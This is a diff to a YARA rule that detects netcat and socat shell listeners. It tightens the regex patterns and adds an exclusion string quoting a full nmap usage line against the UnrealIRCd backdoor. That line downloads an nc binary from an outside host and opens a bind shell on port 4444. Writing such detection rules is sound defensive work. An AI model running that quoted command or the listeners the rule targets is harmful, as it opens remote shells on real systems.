@@ -217,10 +217,11 @@ rule WG_shell_listener {
     author = "Waterguard"
     licence = "Apache-2.0"
   strings:
-    $a = /(nc|ncat|netcat) -[a-z]{0,4}l[a-z]{0,4}[^\n;|]{0,40} (-e|--exec|-c) ?["']?(\/bin\/)?(ba)?sh/
-    $b = /socat [^\n]{0,20}(tcp|TCP|udp|UDP)[46]?-(listen|LISTEN|l|L):[0-9$]{1,6}[^\n]{0,60}(exec|EXEC|system|SYSTEM):["']?(\/bin\/)?(ba)?sh/
+    $a = /(nc|ncat|netcat) -[a-z]{0,4}l[a-z]{0,4}[^\n;|]{0,40} (-e|--exec|-c) ?["']?(\/bin\/)?(ba)?sh( ?["';|&)\n]| -[il]| ?$)/
+    $b = /socat [^\n]{0,20}(tcp|TCP|udp|UDP)[46]?-(listen|LISTEN|l|L):[0-9$]{1,6}[^\n]{0,60}(exec|EXEC|system|SYSTEM):["']?(\/bin\/)?(ba)?sh( ?["',;|&)\n]| -[il]| ?$)/
     $c = /(while true|while :)[^\n]{0,20};? ?do[^\n]{0,20}(nc|ncat) -l[^\n]{0,60}\| ?(\/bin\/)?(ba)?sh\b/
-    $nmap = "irc-unrealircd-backdoor.command"
+    // A line of usage in nmap's own script, as in `netcat-shell`.
+    $nmap = "$ nmap -d -p6667 --script=irc-unrealircd-backdoor.nse --script-args=irc-unrealircd-backdoor.command='wget http://www.javaop.com/~ron/tmp/nc && chmod +x ./nc && ./nc -l -p 4444 -e /bin/sh' <target>"
   condition:
-    any of ($a,$b,$c) and not $nmap and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
+    (#a + #b + #c) > #nmap and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
 }
